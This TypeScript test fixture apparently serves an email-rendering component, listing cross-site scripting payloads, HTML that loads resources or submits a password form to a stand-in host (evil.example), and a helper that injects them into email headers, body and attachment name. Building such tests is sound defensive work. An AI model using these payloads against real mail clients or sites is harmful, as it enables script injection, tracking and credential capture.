/** What a sender may put anywhere, and that no page may run: a case is a line. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>alert(1)</script>`,
  `"'><img src=x onerror=alert(2)>`,
  `</title></textarea></style></pre><svg onload=alert(3)>`,
  `javascript:alert(4)`,
  `<iframe srcdoc="<script>alert(5)</script>"></iframe>`,
  `{{constructor.constructor('alert(6)')()}}`,
  `" autofocus onfocus=alert(7) x="`,
  `<a href="javascript:alert(8)">x</a>`,
  `\u202E<b onmouseover=alert(9)>`,
  `<!--><script>alert(10)</script>-->`,
  `<base href=https://evil.example/><form action=//evil.example><button>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
];

/** Html bodies that try what the frame must not let happen. */
export const HOSTILE_HTML: readonly string[] = [
  ...HOSTILE_TEXTS,
  `<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/b.png)}</style><p>css</p>`,
  `<p style="background-image:url(https://evil.example/b.png);position:fixed;inset:0">cover</p>`,
  `<link rel=stylesheet href=https://evil.example/x.css><object data=https://evil.example/o></object><embed src=https://evil.example/e>`,
  `<img src="https://evil.example/pixel.gif?u=1" srcset="https://evil.example/2x.gif 2x"><video poster=https://evil.example/p.png></video>`,
  `<form action="https://evil.example/"><input name=password><button formaction=https://evil.example/>go</button></form>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=alert(11)></style></mglyph></math>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><svg><use href="data:,x#y"/></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(12)>"></noscript>`,
  `<a href="https://ok.example/" target=_top ping="https://evil.example/ping">top</a>`,
];

/** An email in which a sender's text stands wherever a sender decides what stands there. */
export function buildHostileMime(text: string, body: string = text): string {
  const word = `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
  const quoted = text.replaceAll(/["\\\r\n]/g, "");
  const file = encodeURIComponent(text).replaceAll("'", "%27");
  return [
    `From: "${quoted}" <mara@customers.example>`,
    `To: ${word} <sales@inlet.example>`,
    `Cc: ${word} <cc@inlet.example>`,
    `Reply-To: ${word} <reply@customers.example>`,
    `Subject: ${word}`,
    `Message-ID: <${quoted.replaceAll(/\s/g, "")}@customers.example>`,
    `X-Text: ${text.replaceAll(/[\r\n]/g, " ")}`,
    "Date: Mon, 30 Nov 2026 10:00:00 +0000",
    "MIME-Version: 1.0",
    "Content-Type: multipart/mixed; boundary=b1",
    "",
    "--b1",
    "Content-Type: multipart/alternative; boundary=b2",
    "",
    "--b2",
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(text).toString("base64"),
    "--b2",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(`<p>hello</p>${body}`).toString("base64"),
    "--b2--",
    "--b1",
    "Content-Type: application/pdf",
    `Content-Disposition: attachment; filename*=utf-8''${file}`,
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from("%PDF-1.4 a file").toString("base64"),
    "--b1--",
    "",
  ].join("\r\n");
}
